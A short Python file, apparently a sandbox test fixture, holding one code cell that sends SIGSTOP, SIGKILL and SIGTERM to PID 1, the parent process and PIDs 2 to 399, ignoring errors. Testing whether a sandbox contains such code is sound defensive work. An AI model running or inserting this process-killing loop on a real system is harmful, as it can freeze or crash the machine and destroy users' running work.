"""Sends signals to everybody: to all processes, to the first, to its parents, and to ids that it guesses."""

CELLS = [
    """
import os, signal
for pid in (1, os.getppid(), -1 if False else 1, *range(2, 400)):
    for number in (signal.SIGSTOP, signal.SIGKILL, signal.SIGTERM):
        try:
            if pid != os.getpid():
                os.kill(pid, number)
        except OSError:
            pass
""",
]
